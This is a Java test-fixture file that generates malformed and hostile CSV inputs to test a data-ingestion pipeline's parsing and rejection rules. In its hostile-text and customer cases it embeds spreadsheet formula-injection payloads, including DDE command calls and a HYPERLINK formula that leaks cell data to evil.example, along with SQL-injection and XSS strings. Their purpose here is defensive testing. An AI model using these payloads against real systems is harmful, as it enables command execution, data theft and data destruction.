package dev.landfall.reliability;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Objects;
import java.util.function.Supplier;
import java.util.zip.GZIPOutputStream;

/**
 * The bad and hostile input files landfall is tested against, generated (no binary fixtures in
 * git): one {@link Case} per kind. Each names the outcome of every well-formed data record in
 * file order ({@code typed}, {@code duplicate}, or the reject reason code); every malformed
 * record must land as {@code _raw} and be rejected as {@code parse_error}, and how many records
 * are malformed is stated too, so the oracle ({@link ReferenceCsv}) and the intent of the case are
 * checked against each other.
 *
 * <p>Ids carry the case name: a transaction_id or customer_id never repeats across cases, so one
 * landing run of the whole corpus gives each case the outcome it would have alone.
 */
final class BadInputCorpus {
  static final String TYPED = "typed";
  static final String DUPLICATE = "duplicate";

  static final String T_HEADER = "transaction_id,customer_id,transaction_date,amount,currency,merchant,category";
  static final String C_HEADER = "customer_id,first_name,last_name,email,date_of_birth,city,country,updated_at";

  /** Which landing run a case belongs to: small files are read in tiny ranges, big ones not. */
  enum Size {
    SMALL,
    LARGE,
    HUGE
  }

  /**
   * One kind of bad input.
   *
   * @param name file-name safe id (letters, digits, dashes)
   * @param source customers or transactions
   * @param content the file's bytes, built when needed (some are large)
   * @param outcomes the outcome of each well-formed data record, in file order
   * @param malformed how many data records are malformed (land as _raw, rejected as parse_error)
   * @param size which landing run reads it
   * @param what one line: what the case is about, for the note and failure messages
   */
  record Case(
      String name,
      String source,
      Supplier<byte[]> content,
      List<String> outcomes,
      int malformed,
      Size size,
      String what) {
    String fileName() {
      return source + "_" + name + ".csv";
    }

    int records() {
      return outcomes.size() + malformed;
    }

    @Override
    public String toString() {
      return name;
    }
  }

  private final List<Case> cases = new ArrayList<>();

  private BadInputCorpus() {}

  static List<Case> all() {
    BadInputCorpus c = new BadInputCorpus();
    c.quoting();
    c.encodings();
    c.sizes();
    c.headers();
    c.lineStructure();
    c.hostileText();
    c.values();
    c.customers();
    return List.copyOf(c.cases);
  }

  static List<Case> of(Size size) {
    return all().stream().filter(k -> k.size() == size).toList();
  }

  // ---------------------------------------------------------------- quoting

  private void quoting() {
    tx("clean-control", "a well-formed file: the control case",
        lines(T_HEADER, t("clean-control", 1), t("clean-control", 2)), 0, TYPED, TYPED);
    tx("unbalanced-quote-mid-file",
        "an opening quote never closed: RFC 4180 makes the rest of the file one record",
        lines(T_HEADER, t("unbalanced-quote-mid-file", 1),
            "unbalanced-quote-mid-file-2,c1,2026-01-02,1.00,GBP,\"Tesco,food",
            t("unbalanced-quote-mid-file", 3), t("unbalanced-quote-mid-file", 4)),
        1, TYPED);
    tx("unbalanced-quote-last-line", "the last line opens a quote and the file ends",
        text(T_HEADER + "\n" + t("unbalanced-quote-last-line", 1) + "\n"
            + "unbalanced-quote-last-line-2,c1,2026-01-02,1.00,GBP,\"Tesco,food"),
        1, TYPED);
    tx("stray-quotes-join-lines",
        "a stray quote in an unquoted field on one line and another on a later line: the lines between join into one malformed record",
        lines(T_HEADER, t("stray-quotes-join-lines", 1),
            "stray-quotes-join-lines-2,c1,2026-01-02,1.00,GBP,Tes\"co,food",
            t("stray-quotes-join-lines", 3),
            "stray-quotes-join-lines-4,c1,2026-01-02,1.00,GBP,Sains\"bury,food",
            t("stray-quotes-join-lines", 5)),
        1, TYPED, TYPED);
    tx("quote-inside-unquoted-field", "balanced quotes inside an unquoted field",
        lines(T_HEADER, "quote-inside-unquoted-field-1,c1,2026-01-02,1.00,GBP,Tes\"c\"o,food",
            t("quote-inside-unquoted-field", 2)),
        1, TYPED);
    tx("text-after-closing-quote", "characters after a closing quote",
        lines(T_HEADER, "text-after-closing-quote-1,c1,2026-01-02,1.00,GBP,\"Tesco\"x,food",
            t("text-after-closing-quote", 2)),
        1, TYPED);
    tx("space-before-opening-quote", "a space before an opening quote makes the field unquoted",
        lines(T_HEADER, "space-before-opening-quote-1,c1,2026-01-02,1.00,GBP, \"Tesco\",food",
            t("space-before-opening-quote", 2)),
        1, TYPED);
    tx("escaped-quotes", "doubled quotes inside quoted fields, also at their ends",
        lines(T_HEADER,
            "escaped-quotes-1,c1,2026-01-02,1.00,GBP,\"Tes\"\"co \"\"Extra\"\"\",food",
            "escaped-quotes-2,c1,2026-01-02,1.00,GBP,\"\"\"\",\"\"",
            "escaped-quotes-3,c1,2026-01-02,1.00,GBP,\"\",\"\"\"\"\"\""),
        0, TYPED, TYPED, TYPED);
    tx("quoted-line-breaks", "LF, CRLF and lone CR inside quoted fields",
        lines(T_HEADER,
            "quoted-line-breaks-1,c1,2026-01-02,1.00,GBP,\"Tesco\nExpress\",food",
            "quoted-line-breaks-2,c1,2026-01-02,1.00,GBP,\"a\r\nb\",\"\n\"",
            "quoted-line-breaks-3,c1,2026-01-02,1.00,GBP,\"x\ry\",\"\r\n\r\n\""),
        0, TYPED, TYPED, TYPED);
    tx("quotes-at-split-boundaries",
        "quoted fields with line breaks and doubled quotes at every byte position, so range boundaries fall on quotes, inside quotes and on line ends",
        quotesAtEveryOffset(), 0, repeat(TYPED, 48));
    tx("quotes-only-line", "a line of quotes only: one field",
        lines(T_HEADER, "\"\"\"\"\"\"", t("quotes-only-line", 2)), 1, TYPED);
  }

  /** Rows whose quoted fields start one byte later each time. */
  private static Supplier<byte[]> quotesAtEveryOffset() {
    StringBuilder csv = new StringBuilder(T_HEADER).append('\n');
    for (int i = 1; i <= 48; i++) {
      csv.append("quotes-at-split-boundaries-").append(i).append(",c1,2026-01-02,1.00,GBP,\"")
          .append("x".repeat(i % 7)).append("\"\"q\"\"\n").append("y".repeat(i % 5))
          .append("\",\"").append("z".repeat(i % 3)).append("\r\n\"\n");
    }
    return text(csv.toString());
  }

  // ---------------------------------------------------------------- encodings

  private void encodings() {
    tx("invalid-utf8-lone-continuation", "a continuation byte with no lead byte (0x80)",
        bytes(T_HEADER + "\n" + t("invalid-utf8-lone-continuation", 1) + "\n",
            "invalid-utf8-lone-continuation-2,c1,2026-01-02,1.00,GBP,Caf", new byte[] {(byte) 0x80},
            ",food\n"),
        1, TYPED);
    tx("invalid-utf8-overlong", "an overlong encoding of '/' (0xC0 0xAF)",
        bytes(T_HEADER + "\n", "invalid-utf8-overlong-1,c1,2026-01-02,1.00,GBP,a", new byte[] {(byte) 0xC0, (byte) 0xAF},
            "b,food\n" + t("invalid-utf8-overlong", 2) + "\n"),
        1, TYPED);
    tx("invalid-utf8-surrogate", "a UTF-8 encoded surrogate (0xED 0xA0 0x80)",
        bytes(T_HEADER + "\n", "invalid-utf8-surrogate-1,c1,2026-01-02,1.00,GBP,a",
            new byte[] {(byte) 0xED, (byte) 0xA0, (byte) 0x80}, ",food\n"),
        1);
    tx("invalid-utf8-truncated-at-eof", "the file ends in the middle of a multi-byte character",
        bytes(T_HEADER + "\n" + t("invalid-utf8-truncated-at-eof", 1) + "\n",
            "invalid-utf8-truncated-at-eof-2,c1,2026-01-02,1.00,GBP,price ", new byte[] {(byte) 0xE2, (byte) 0x82}),
        1, TYPED);
    tx("latin1-encoded", "a Latin-1 file: accented letters are not UTF-8, plain rows are",
        encoded(lines(T_HEADER, "latin1-encoded-1,c1,2026-01-02,1.00,GBP,Café Rouge,food",
            t("latin1-encoded", 2)), StandardCharsets.ISO_8859_1),
        1, TYPED);
    tx("windows-1252-smart-quotes", "Windows-1252 curly quotes (0x93, 0x94)",
        bytes(T_HEADER + "\n", "windows-1252-smart-quotes-1,c1,2026-01-02,1.00,GBP,", new byte[] {(byte) 0x93},
            "Best", new byte[] {(byte) 0x94}, ",food\n" + t("windows-1252-smart-quotes", 2) + "\n"),
        1, TYPED);
    tx("nul-byte-in-field", "NUL bytes inside a value (valid UTF-8)",
        lines(T_HEADER, "nul-byte-in-field-1,c1,2026-01-02,1.00,GBP,Tes\0co,fo\0od", t("nul-byte-in-field", 2)),
        0, TYPED, TYPED);
    tx("nul-bytes-line", "a line of NUL bytes",
        lines(T_HEADER, t("nul-bytes-line", 1), "\0".repeat(16), t("nul-bytes-line", 3)), 1, TYPED, TYPED);
    tx("utf16le-with-bom", "a UTF-16LE file with its byte order mark: no line is UTF-8",
        encoded(lines(T_HEADER, t("utf16le-with-bom", 1), t("utf16le-with-bom", 2)), StandardCharsets.UTF_16LE, 0xFF, 0xFE),
        4);
    tx("utf16be-with-bom", "a UTF-16BE file with its byte order mark",
        encoded(lines(T_HEADER, t("utf16be-with-bom", 1), t("utf16be-with-bom", 2)), StandardCharsets.UTF_16BE, 0xFE, 0xFF),
        3);
    tx("utf16le-without-bom",
        "a UTF-16LE file without BOM: valid UTF-8 full of NULs; the NULs make the header unreadable",
        encoded(lines(T_HEADER, t("utf16le-without-bom", 1), t("utf16le-without-bom", 2)), StandardCharsets.UTF_16LE),
        4);
    tx("utf8-bom", "a UTF-8 byte order mark (accepted and dropped)",
        encoded(lines(T_HEADER, t("utf8-bom", 1)), StandardCharsets.UTF_8, 0xEF, 0xBB, 0xBF), 0, TYPED);
    tx("double-utf8-bom", "two byte order marks: the second sticks to the first column name",
        encoded(lines(T_HEADER, t("double-utf8-bom", 1)), StandardCharsets.UTF_8, 0xEF, 0xBB, 0xBF, 0xEF, 0xBB, 0xBF),
        0, "missing_required_column");
    tx("bom-inside-file", "a byte order mark at the start of a data line (from concatenated files)",
        lines(T_HEADER, t("bom-inside-file", 1), "\uFEFF" + t("bom-inside-file", 2)), 0, TYPED, TYPED);
    tx("utf16-single-line", "a UTF-16 file of one line, no line end: its header is its only record, refused with one counted error",
        () -> T_HEADER.getBytes(StandardCharsets.UTF_16LE), 1);
    tx("binary-single-line", "256 bytes of binary without a line end", BadInputCorpus::binaryWithoutLineEnd, 1);
    tx("gzip-compressed", "a gzip-compressed CSV with a .csv name",
        gzip(lines(T_HEADER, t("gzip-compressed", 1), t("gzip-compressed", 2))), -1);
  }

  private static byte[] binaryWithoutLineEnd() {
    byte[] bytes = new byte[256];
    for (int i = 0; i < bytes.length; i++) {
      bytes[i] = (byte) (0x80 + (i * 37) % 128); // all >= 0x80: no LF, no quote, not UTF-8
    }
    return bytes;
  }

  // ---------------------------------------------------------------- sizes

  private void sizes() {
    add(new Case("field-10mb", "transactions",
        () -> utf8(T_HEADER + "\nfield-10mb-1,c1,2026-01-02,1.00,GBP," + "m".repeat(10 << 20) + ",food\n"
            + t("field-10mb", 2) + "\n"),
        List.of(TYPED, TYPED), 0, Size.LARGE, "a 10 MB merchant name"));
    add(new Case("customer-id-1mb", "transactions",
        () -> utf8(T_HEADER + "\ncustomer-id-1mb-1," + "c".repeat(1 << 20) + ",2026-01-02,1.00,GBP,m,food\n"),
        List.of(TYPED), 0, Size.LARGE, "a 1 MB customer_id"));
    add(new Case("transaction-id-100kb", "transactions",
        () -> utf8(T_HEADER + "\ntransaction-id-100kb-" + "t".repeat(100 << 10) + ",c1,2026-01-02,1.00,GBP,m,food\n"),
        List.of(TYPED), 0, Size.LARGE, "a 100 KB transaction_id"));
    add(new Case("columns-10000-in-header", "transactions", BadInputCorpus::tenThousandColumns,
        List.of(TYPED, TYPED, TYPED), 0, Size.LARGE, "10,000 columns, the required ones among them"));
    add(new Case("columns-10000-in-one-row", "transactions",
        () -> utf8(T_HEADER + "\ncolumns-10000-in-one-row-1,c1,2026-01-02,1.00,GBP,m" + ",x".repeat(9_994) + "\n"
            + t("columns-10000-in-one-row", 2) + "\n"),
        List.of(TYPED), 1, Size.LARGE, "one row of 10,000 fields under a 7-column header"));
    add(new Case("line-100mb", "transactions",
        () -> utf8(T_HEADER + "\nline-100mb-1,c1,2026-01-02,1.00,GBP," + "m".repeat(100 << 20) + ",food\n"
            + t("line-100mb", 2) + "\n"),
        List.of(TYPED), 1, Size.HUGE, "a 100 MB line: longer than the record limit, lands truncated as _raw"));
  }

  private static byte[] tenThousandColumns() {
    StringBuilder csv = new StringBuilder();
    StringBuilder extra = new StringBuilder();
    for (int i = 8; i <= 10_000; i++) {
      csv.append("extra_").append(i).append(',');
      extra.append(i).append(',');
    }
    String head = csv + T_HEADER;
    StringBuilder file = new StringBuilder(head).append('\n');
    for (int r = 1; r <= 3; r++) {
      file.append(extra).append(t("columns-10000-in-header", r)).append('\n');
    }
    return utf8(file.toString());
  }

  // ---------------------------------------------------------------- headers

  private void headers() {
    tx("duplicate-header-names", "a column named twice: the second copy gets a suffix, the first is typed",
        lines("transaction_id,customer_id,transaction_date,amount,Amount ,currency,merchant,category",
            "duplicate-header-names-1,c1,2026-01-02,1.00,-5,GBP,m,food"),
        0, TYPED);
    tx("empty-header-names", "blank column names",
        lines("transaction_id,,customer_id,transaction_date,amount, ,currency,merchant,category",
            "empty-header-names-1,x,c1,2026-01-02,1.00,y,GBP,m,food"),
        0, TYPED);
    tx("all-header-names-empty", "a header of commas only",
        lines(",,,,,,", t("all-header-names-empty", 1)), 0, "missing_required_column");
    tx("header-only", "a header and nothing else", lines(T_HEADER), 0);
    tx("header-only-no-newline", "a header without a line end", text(T_HEADER), 0);
    tx("empty-file", "zero bytes", () -> new byte[0], 0);
    tx("only-blank-lines", "blank lines only (LF and CRLF)", text("\n\n\r\n\n\r\n"), 0);
    tx("header-messy-case-and-spaces", "column names in odd case with spaces around",
        lines("  Transaction_ID , CUSTOMER_ID,Transaction_Date,AMOUNT,Currency,MERCHANT , category",
            t("header-messy-case-and-spaces", 1)),
        0, TYPED);
    tx("header-reordered-extra-columns", "columns reordered, extra columns added",
        lines("notes,amount,merchant,transaction_date,customer_id,category,transaction_id,currency,branch",
            "n,1.00,m,2026-01-02,c1,food,header-reordered-extra-columns-1,GBP,b"),
        0, TYPED);
    tx("missing-required-column", "no amount column: every row is rejected with that reason",
        lines("transaction_id,customer_id,transaction_date,currency",
            "missing-required-column-1,c1,2026-01-02,GBP", "missing-required-column-2,c1,2026-01-02,GBP"),
        0, "missing_required_column", "missing_required_column");
    tx("header-with-broken-quote", "a malformed header: it and every data line land unparsed",
        lines("\"transaction_id\"x,customer_id,transaction_date,amount,currency,merchant,category",
            t("header-with-broken-quote", 1), t("header-with-broken-quote", 2)),
        3);
    tx("header-invalid-utf8", "a header that is not UTF-8",
        bytes("transaction_id,customer_id,transaction_date,amount,currency,merchant,categor", new byte[] {(byte) 0xFF},
            "\n" + t("header-invalid-utf8", 1) + "\n"),
        2);
    tx("quoted-header-with-line-break", "a quoted column name holding a line break",
        lines("\"transaction\nid\",customer_id,transaction_date,amount,currency,merchant,category",
            t("quoted-header-with-line-break", 1)),
        0, "missing_required_column");
    tx("semicolon-delimited", "semicolons instead of commas: one column",
        lines(T_HEADER.replace(',', ';'), t("semicolon-delimited", 1).replace(',', ';')),
        0, "missing_required_column");
    tx("tab-delimited", "tabs instead of commas: one column",
        lines(T_HEADER.replace(',', '\t'), t("tab-delimited", 1).replace(',', '\t')),
        0, "missing_required_column");
  }

  // ---------------------------------------------------------------- line structure

  private void lineStructure() {
    tx("blank-lines-between-records", "blank LF and CRLF lines between and after records",
        text(T_HEADER + "\n\n" + t("blank-lines-between-records", 1) + "\r\n\r\n\n"
            + t("blank-lines-between-records", 2) + "\n\n\n"),
        0, TYPED, TYPED);
    tx("whitespace-only-lines", "lines of spaces or a tab are not blank: one field each",
        lines(T_HEADER, "   ", t("whitespace-only-lines", 2), "\t"), 2, TYPED);
    tx("mixed-line-endings", "LF and CRLF in one file",
        text(T_HEADER + "\r\n" + t("mixed-line-endings", 1) + "\n" + t("mixed-line-endings", 2) + "\r\n"
            + t("mixed-line-endings", 3) + "\n"),
        0, TYPED, TYPED, TYPED);
    tx("lone-cr-inside-line", "a lone CR is not a line end: two rows become one long malformed one",
        text(T_HEADER + "\n" + t("lone-cr-inside-line", 1) + "\r" + t("lone-cr-inside-line", 2) + "\n"
            + t("lone-cr-inside-line", 3) + "\n"),
        1, TYPED);
    tx("cr-only-line-endings",
        "classic Mac line ends (CR only): the whole file is one line, its header, refused with one counted error",
        text(T_HEADER + "\r" + t("cr-only-line-endings", 1) + "\r" + t("cr-only-line-endings", 2) + "\r"),
        1);
    tx("trailing-delimiter-everywhere", "a comma at the end of every line, header included",
        lines(T_HEADER + ",", t("trailing-delimiter-everywhere", 1) + ","), 0, TYPED);
    tx("trailing-delimiter-rows-only", "a comma at the end of data lines only",
        lines(T_HEADER, t("trailing-delimiter-rows-only", 1) + ",", t("trailing-delimiter-rows-only", 2)),
        1, TYPED);
    tx("missing-final-newline", "the last record has no line end",
        text(T_HEADER + "\n" + t("missing-final-newline", 1) + "\n" + t("missing-final-newline", 2)),
        0, TYPED, TYPED);
    tx("short-and-long-rows", "rows with a field too few and a field too many",
        lines(T_HEADER, "short-and-long-rows-1,c1,2026-01-02,1.00,GBP,m", t("short-and-long-rows", 2) + ",extra",
            t("short-and-long-rows", 3)),
        2, TYPED);
    tx("only-commas-rows", "rows of empty fields",
        lines(T_HEADER, ",,,,,,", " , , , , , , "), 0, "missing_value", "missing_value");
  }

  // ---------------------------------------------------------------- hostile text

  private void hostileText() {
    tx("formula-injection", "spreadsheet formulas in text fields: kept as text",
        lines(T_HEADER,
            "formula-injection-1,c1,2026-01-02,1.00,GBP,=cmd|' /C calc'!A0,food",
            "formula-injection-2,c1,2026-01-02,1.00,GBP,+SUM(1+1)*cmd|' /C calc'!A0,=1+1",
            "formula-injection-3,c1,2026-01-02,1.00,GBP,-2+3+cmd|' /C calc'!A0,@SUM(1+1)",
            "formula-injection-4,c1,2026-01-02,1.00,GBP,\"=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"Click\"\")\",food",
            "=cmd|' /C calc'!A0,=cmd|' /C calc'!A0,2026-01-02,1.00,GBP,m,food"),
        0, TYPED, TYPED, TYPED, TYPED, TYPED);
    tx("formula-in-amount-and-date", "formulas where numbers and dates belong",
        lines(T_HEADER, "formula-in-amount-and-date-1,c1,2026-01-02,=1+1,GBP,m,food",
            "formula-in-amount-and-date-2,c1,=TODAY(),1.00,GBP,m,food"),
        0, "invalid_amount", "invalid_date");
    tx("sql-looking-text", "SQL injection attempts and placeholder syntax in values: kept as text",
        lines(T_HEADER,
            "sql-looking-text-1,c1,2026-01-02,1.00,GBP,'; DROP TABLE transactions; --,food",
            "sql-looking-text-2,1' OR '1'='1,2026-01-02,1.00,GBP,Robert'); DROP TABLE Students;--,food",
            "sql-looking-text-3,c1,2026-01-02,1.00,GBP,\"\"\"; DELETE FROM lake.raw_records WHERE \"\"1\"\"=\"\"1\",food",
            "sql-looking-text-4,c1,2026-01-02,1.00,GBP,${lake_dataset} %{x} @@error.message,`x`; SELECT 1"),
        0, TYPED, TYPED, TYPED, TYPED);
    tx("json-looking-text", "JSON syntax, backslashes and escape sequences in values",
        lines(T_HEADER,
            "json-looking-text-1,c1,2026-01-02,1.00,GBP,\"{\"\"_raw\"\": \"\"x\"\", \"\"amount\"\": 5}\",food",
            "json-looking-text-2,c1,2026-01-02,1.00,GBP,C:\\new\\table\\u0000,\\\\",
            "json-looking-text-3,c1,2026-01-02,1.00,GBP,</script><script>alert(1)</script>,food"),
        0, TYPED, TYPED, TYPED);
    tx("unicode-text", "emoji, CJK, right-to-left, combining marks, zero-width and line-separator characters",
        lines(T_HEADER,
            "unicode-text-1,c1,2026-01-02,1.00,GBP,Caf\u0065\u0301 \uD83D\uDE00 \u4E2D\u6587,\u0627\u0644\u0639\u0631\u0628\u064A\u0629",
            "unicode-text-2,c1\u200B,2026-01-02,1.00,GBP,a\u2028b\u2029c,\uFFFD"),
        0, TYPED, TYPED);
    tx("control-characters", "terminal escapes, DEL, backspace, form feed and tabs in values",
        lines(T_HEADER, "control-characters-1,c1,2026-01-02,1.00,GBP,\u001B[31mred\u001B[0m\u007F,a\bb\fc\td"),
        0, TYPED);
  }

  // ---------------------------------------------------------------- values

  private void values() {
    tx("thousands-separators", "amounts with thousands separators",
        lines(T_HEADER,
            "thousands-separators-1,c1,2026-01-02,\"1,234.50\",GBP,m,food",
            "thousands-separators-2,c1,2026-01-02,1,234.50,GBP,m,food",
            "thousands-separators-3,c1,2026-01-02,1 234.50,GBP,m,food",
            "thousands-separators-4,c1,2026-01-02,1'234.50,GBP,m,food",
            "thousands-separators-5,c1,2026-01-02,\"1.234,50\",GBP,m,food"),
        1, "invalid_amount", "invalid_amount", "invalid_amount", "invalid_amount");
    tx("currency-symbols-in-amount", "currency symbols and codes inside amounts",
        lines(T_HEADER, "currency-symbols-in-amount-1,c1,2026-01-02,£12.50,GBP,m,food",
            "currency-symbols-in-amount-2,c1,2026-01-02,12.50 GBP,GBP,m,food",
            "currency-symbols-in-amount-3,c1,2026-01-02,$5,GBP,m,food"),
        0, "invalid_amount", "invalid_amount", "invalid_amount");
    List<String> dates = List.of("01/02/2026", "2026/01/02", "20260102", "2 Jan 2026", "\"Jan 2, 2026\"", "2026-1-2",
        "2026-13-01", "2026-02-30", "02-01-2026", "2026-01-02T25:00:00Z", "1767312000", "2026-01-02T10:00");
    List<String> rows = new ArrayList<>(List.of(T_HEADER));
    for (int i = 0; i < dates.size(); i++) {
      rows.add("dates-other-formats-" + i + ",c1," + dates.get(i) + ",1.00,GBP,m,food");
    }
    rows.add("dates-other-formats-t1,c1,2026-01-02T10:00:00+01:00,1.00,GBP,m,food");
    rows.add("dates-other-formats-t2,c1,2026-01-02 10:00:00,1.00,GBP,m,food");
    rows.add("dates-other-formats-t3,c1,2026-01-02T10:00:00.123456Z,1.00,GBP,m,food");
    List<String> outcomes = new ArrayList<>(repeat("invalid_date", dates.size()));
    outcomes.addAll(List.of(TYPED, TYPED, TYPED));
    tx("dates-other-formats", "dates in other formats, impossible dates; ISO-8601 timestamps are accepted",
        lines(rows.toArray(String[]::new)), 0, outcomes.toArray(String[]::new));
    tx("amounts-many-decimals", "more than 9 decimals is refused, exactly 9 kept",
        lines(T_HEADER, "amounts-many-decimals-1,c1,2026-01-02,1.1234567891,GBP,m,food",
            "amounts-many-decimals-2,c1,2026-01-02,1.123456789,GBP,m,food",
            "amounts-many-decimals-3,c1,2026-01-02,0.000000001,GBP,m,food",
            "amounts-many-decimals-4,c1,2026-01-02,0.0000000001,GBP,m,food"),
        0, "invalid_amount", TYPED, TYPED, "invalid_amount");
    tx("amounts-exponent-notation", "exponents, infinities, NaN and hex",
        lines(T_HEADER, "amounts-exponent-notation-1,c1,2026-01-02,1e3,GBP,m,food",
            "amounts-exponent-notation-2,c1,2026-01-02,1E-2,GBP,m,food",
            "amounts-exponent-notation-3,c1,2026-01-02,1.5e+2,GBP,m,food",
            "amounts-exponent-notation-4,c1,2026-01-02,Infinity,GBP,m,food",
            "amounts-exponent-notation-5,c1,2026-01-02,NaN,GBP,m,food",
            "amounts-exponent-notation-6,c1,2026-01-02,0x10,GBP,m,food"),
        0, repeat("invalid_amount", 6));
    tx("amounts-at-numeric-limits", "29 integer digits and 9 decimals fit NUMERIC; 30 digits do not",
        lines(T_HEADER,
            "amounts-at-numeric-limits-1,c1,2026-01-02,99999999999999999999999999999.999999999,GBP,m,food",
            "amounts-at-numeric-limits-2,c1,2026-01-02,123456789012345678901234567890,GBP,m,food"),
        0, TYPED, "invalid_amount");
    tx("amounts-not-positive", "zero, negative zero and negative amounts; an explicit plus sign is fine",
        lines(T_HEADER, "amounts-not-positive-1,c1,2026-01-02,0,GBP,m,food",
            "amounts-not-positive-2,c1,2026-01-02,-0.00,GBP,m,food",
            "amounts-not-positive-3,c1,2026-01-02,-5,GBP,m,food",
            "amounts-not-positive-4,c1,2026-01-02,+5.00,GBP,m,food"),
        0, "non_positive_amount", "non_positive_amount", "non_positive_amount", TYPED);
    tx("values-padded-with-spaces", "spaces around values are trimmed",
        lines(T_HEADER, " values-padded-with-spaces-1 , c1 , 2026-01-02 , 12.50 , gbp , m , food "), 0, TYPED);
    tx("missing-values", "blank required values",
        lines(T_HEADER, "missing-values-1,c1,2026-01-02,,GBP,m,food", ",c1,2026-01-02,1.00,GBP,m,food",
            "missing-values-3,   ,2026-01-02,1.00,GBP,m,food"),
        0, "missing_value", "missing_value", "missing_value");
    tx("currency-variants", "lower case is the base currency; other codes are refused; blank means base",
        lines(T_HEADER, "currency-variants-1,c1,2026-01-02,1.00,gbp,m,food",
            "currency-variants-2,c1,2026-01-02,1.00,USD,m,food",
            "currency-variants-3,c1,2026-01-02,1.00,GB P,m,food",
            "currency-variants-4,c1,2026-01-02,1.00,,m,food"),
        0, TYPED, "unsupported_currency", "unsupported_currency", TYPED);
    tx("duplicate-rows-in-file", "an identical re-delivery in the same file, then a conflicting one",
        lines(T_HEADER, t("duplicate-rows-in-file", 1), t("duplicate-rows-in-file", 1),
            "duplicate-rows-in-file-1,c1,2026-01-02,9.99,GBP,m,food"),
        0, TYPED, DUPLICATE, "conflicting_duplicate");
  }

  // ---------------------------------------------------------------- customers

  private void customers() {
    cu("customers-dates-other-formats", "dates of birth and updated_at in other formats",
        lines(C_HEADER,
            "customers-dates-other-formats-1,A,B,a@example.com,31/12/1980,Leeds,UK,",
            "customers-dates-other-formats-2,A,B,a@example.com,19801231,Leeds,UK,",
            "customers-dates-other-formats-3,A,B,a@example.com,1980-02-30,Leeds,UK,",
            "customers-dates-other-formats-4,A,B,a@example.com,1980-12-31,Leeds,UK,yesterday",
            "customers-dates-other-formats-5,A,B,a@example.com,1980-12-31,Leeds,UK,2026-11-01",
            "customers-dates-other-formats-6,A,B,a@example.com,1980-12-31,Leeds,UK,2026-11-01T09:00:00Z"),
        0, "invalid_date", "invalid_date", "invalid_date", "invalid_timestamp", "invalid_timestamp", TYPED);
    cu("customers-hostile-text", "formulas, SQL and markup in customer attributes: kept as text",
        lines(C_HEADER,
            "customers-hostile-text-1,=cmd|' /C calc'!A0,'); DROP TABLE customers_history;--,<img src=x onerror=alert(1)>,,,,",
            "\"=HYPERLINK(\"\"http://evil.example\"\")\",@SUM(1),+1,-1,,,,"),
        0, TYPED, TYPED);
    cu("customers-blank-ids", "blank and whitespace customer ids",
        lines(C_HEADER, ",A,B,,,,,", "   ,A,B,,,,,", "customers-blank-ids-3,A,B,,,,,"),
        0, "missing_value", "missing_value", TYPED);
    cu("customers-repeats-and-changes", "the same customer repeated, then changed",
        lines(C_HEADER,
            "customers-repeats-and-changes-1,A,B,a@example.com,1980-12-31,Leeds,UK,2026-11-01T09:00:00Z",
            "customers-repeats-and-changes-1,A,B,a@example.com,1980-12-31,Leeds,UK,2026-11-01T09:00:00Z",
            "customers-repeats-and-changes-1,A,B,a@example.com,1980-12-31,York,UK,2026-11-02T09:00:00Z"),
        0, TYPED, DUPLICATE, TYPED);
    cu("customers-invalid-utf8-and-nul", "invalid UTF-8 and NUL bytes in customer names",
        bytes(C_HEADER + "\ncustomers-invalid-utf8-and-nul-1,Jos", new byte[] {(byte) 0xE9},
            ",B,,,,,\ncustomers-invalid-utf8-and-nul-2,Jo\0e,B,,,,,\n"),
        1, TYPED);
    cu("customers-utf16", "a UTF-16LE customers file with BOM",
        encoded(lines(C_HEADER, "customers-utf16-1,A,B,,,,,"), StandardCharsets.UTF_16LE, 0xFF, 0xFE), 3);
    add(new Case("customers-id-1mb", "customers",
        () -> utf8(C_HEADER + "\ncustomers-id-1mb-" + "c".repeat(1 << 20) + ",A,B,,,,,\n"),
        List.of(TYPED), 0, Size.LARGE, "a 1 MB customer_id"));
  }

  // ---------------------------------------------------------------- building blocks

  /** A valid transactions row whose id is {@code <case>-<n>}. */
  static String t(String caseName, int n) {
    return caseName + "-" + n + ",c1,2026-01-02,1.00,GBP,m,food";
  }

  /** A transactions case; {@code malformed} -1 means: whatever the oracle finds, all rejected. */
  private void tx(String name, String what, Supplier<byte[]> content, int malformed, String... outcomes) {
    add(new Case(name, "transactions", content, List.of(outcomes), malformed, Size.SMALL, what));
  }

  private void tx(String name, String what, Supplier<byte[]> content, int malformed, List<String> outcomes) {
    add(new Case(name, "transactions", content, outcomes, malformed, Size.SMALL, what));
  }

  private void cu(String name, String what, Supplier<byte[]> content, int malformed, String... outcomes) {
    add(new Case(name, "customers", content, List.of(outcomes), malformed, Size.SMALL, what));
  }

  private void add(Case c) {
    if (!c.name().matches("[a-z0-9-]+")) {
      throw new IllegalArgumentException("case names are file-name safe: " + c.name());
    }
    if (cases.stream().anyMatch(k -> k.name().equals(c.name()))) {
      throw new IllegalArgumentException("duplicate case " + c.name());
    }
    cases.add(c);
  }

  /** Lines joined with LF, with a final LF. */
  private static Supplier<byte[]> lines(String... lines) {
    return text(String.join("\n", lines) + "\n");
  }

  private static Supplier<byte[]> text(String text) {
    return () -> utf8(text);
  }

  private static Supplier<byte[]> encoded(Supplier<byte[]> utf8Text, Charset charset, int... prefix) {
    return () -> {
      byte[] body = new String(utf8Text.get(), StandardCharsets.UTF_8).getBytes(charset);
      byte[] out = new byte[prefix.length + body.length];
      for (int i = 0; i < prefix.length; i++) {
        out[i] = (byte) prefix[i];
      }
      System.arraycopy(body, 0, out, prefix.length, body.length);
      return out;
    };
  }

  /** Concatenates strings (as UTF-8) and raw byte arrays. */
  private static Supplier<byte[]> bytes(Object... parts) {
    return () -> {
      ByteArrayOutputStream out = new ByteArrayOutputStream();
      for (Object part : parts) {
        out.writeBytes(part instanceof byte[] b ? b : utf8(Objects.toString(part)));
      }
      return out.toByteArray();
    };
  }

  private static Supplier<byte[]> gzip(Supplier<byte[]> content) {
    return () -> {
      ByteArrayOutputStream out = new ByteArrayOutputStream();
      try (GZIPOutputStream gz = new GZIPOutputStream(out)) {
        gz.write(content.get());
      } catch (IOException e) {
        throw new UncheckedIOException(e);
      }
      return out.toByteArray();
    };
  }

  private static List<String> repeat(String outcome, int n) {
    String[] out = new String[n];
    Arrays.fill(out, outcome);
    return List.of(out);
  }

  static byte[] utf8(String text) {
    return text.getBytes(StandardCharsets.UTF_8);
  }
}
